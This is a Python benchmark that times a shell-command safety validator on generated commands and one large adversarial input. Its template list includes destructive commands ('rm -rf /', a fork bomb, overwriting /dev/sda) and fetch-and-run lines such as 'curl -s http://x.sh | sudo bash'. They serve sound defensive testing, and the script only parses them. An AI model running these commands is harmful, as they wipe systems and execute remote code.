"""Benchmark of the safety validator: `assess` on 10,000 typical commands and one 100 KB attack.

Prints the median and p99 microseconds per command for `assess`, and for `parse_script` alone
(the baseline measured in the same run), so the cost of rule evaluation over parsing shows.
Run: python bench/bench_safety.py
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Callable

from pipeline.safety import RuleSet, assess, default_rules_path
from pipeline.shell import parse_script
from pipeline.values import SafetyLevel, Shell

TEMPLATES = [
    "ls -la {d}", "ls -lh {d} | sort -k5 -h", "find {d} -name '*.{ext}' -type f", "find . -type f -mtime -{n} -size +{n}M",
    "grep -rn '{word}' {d} --include='*.{ext}'", "grep -c {word} {f} | wc -l", "git status", "git log --oneline -{n}",
    "git diff --staged {f}", "git checkout -b feature-{n}", "git push origin feature-{n}", "git stash && git pull --rebase",
    "docker ps -a --filter status=exited", "docker logs -f --tail {n} web", "docker run --rm -it -v $(pwd):/app python:3.11 bash",
    "du -sh {d}/* | sort -rh | head -{n}", "ps aux --sort=-%mem | head -{n}", "ps -ef | grep '[p]ython' | awk '{{print $2}}'",
    "curl -fsSL https://api.example.com/v1/items?page={n} | jq '.items[]'", "curl -O https://example.com/file-{n}.tar.gz",
    "tar -czf backup-{n}.tar.gz {d}", "tar -xzf archive.tar.gz -C {d}", "sed -i 's/{word}/new/g' {f}", "awk -F, '{{sum += $3}} END {{print sum}}' {f}",
    "cat {f} | sort | uniq -c | sort -rn | head", "wc -l $(git ls-files '*.{ext}')", "xargs -n1 echo < {f}", "chmod 644 {f}",
    "cp -r {d} {d}.bak", "mv {f} {f}.old", "rm {f}", "rm -rf ./build", "mkdir -p {d}/sub && cd {d}/sub", "kill {n}",
    "sudo apt update && sudo apt install -y jq", "for f in *.{ext}; do echo \"$f\"; done", "echo \"$HOME/{f}\" >> list.txt",
    # some dangerous ones
    "rm -rf /", "sudo rm -rf /*", "curl -s http://x.sh | sudo bash", ":(){{ :|:& }};:", "dd if=/dev/zero of=/dev/sda bs=4M",
    "chmod -R 777 /", "find / -name '*.log' -exec rm -f {{}} \\;", "bash -c \"$(wget -qO- http://x)\"",
]
WORDS = ["error", "TODO", "main", "config", "user"]
DIRS = [".", "src", "/var/log", "~/projects", "./data", "logs"]
EXTS = ["py", "rs", "log", "txt", "json"]
FILES = ["app.log", "data.csv", "README.md", "config.yaml", "notes.txt"]


def commands(count: int, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    return [
        rng.choice(TEMPLATES).format(d=rng.choice(DIRS), ext=rng.choice(EXTS), word=rng.choice(WORDS), f=rng.choice(FILES), n=rng.randint(1, 500))
        for _ in range(count)
    ]


def adversarial() -> str:
    """About 100 KB of nested `$(`, thousands of `;` and `|`, long quoted strings and many flags."""
    depth = 3000
    parts = [
        "echo " + "$(" * depth + "rm -rf /" + ")" * depth,
        "ls -la; " * 4000,
        "cat x | " * 4000 + "wc -l",
        "echo '" + "a" * 20000 + "'",
        "rm " + " -f" * 6000 + " x",
        'eval "' + "sh -c \\\"" * 4 + "id" + '\\"' * 4 + '"',
    ]
    return " ; ".join(parts)[:102_400]


def timed(fn: Callable[[str], object], items: list[str]) -> list[float]:
    out = []
    for item in items:
        start = time.perf_counter()
        fn(item)
        out.append((time.perf_counter() - start) * 1e6)
    return out


def summary(samples: list[float]) -> str:
    ordered = sorted(samples)
    p99 = ordered[int(len(ordered) * 0.99) - 1]
    return f"median {statistics.median(ordered):8.1f} us   p99 {p99:8.1f} us"


def main() -> None:
    rules = RuleSet.load([default_rules_path()])
    items = commands(10_000)

    def judge(command: str) -> object:
        return assess(command, shell=Shell.BASH, level=SafetyLevel.MODERATE, rules=rules, cwd="/home/u/project", home="/home/u")

    for command in items[:200]:  # warm caches and the grammar
        judge(command)
    parse_times = timed(parse_script, items)
    assess_times = timed(judge, items)
    print(f"commands:            {len(items)}")
    print(f"parse_script only:   {summary(parse_times)}")
    print(f"assess (full):       {summary(assess_times)}")
    ratio = statistics.median(assess_times) / statistics.median(parse_times)
    print(f"assess / parse:      {ratio:.2f}x (median)")
    attack = adversarial()
    start = time.perf_counter()
    parse_script(attack)
    parse_ms = (time.perf_counter() - start) * 1e3
    start = time.perf_counter()
    verdict = judge(attack)
    assess_ms = (time.perf_counter() - start) * 1e3
    print(f"adversarial {len(attack) // 1024} KB:   parse {parse_ms:.1f} ms, assess {assess_ms:.1f} ms -> {verdict.risk.label}, {verdict.action.value}")


if __name__ == "__main__":
    main()
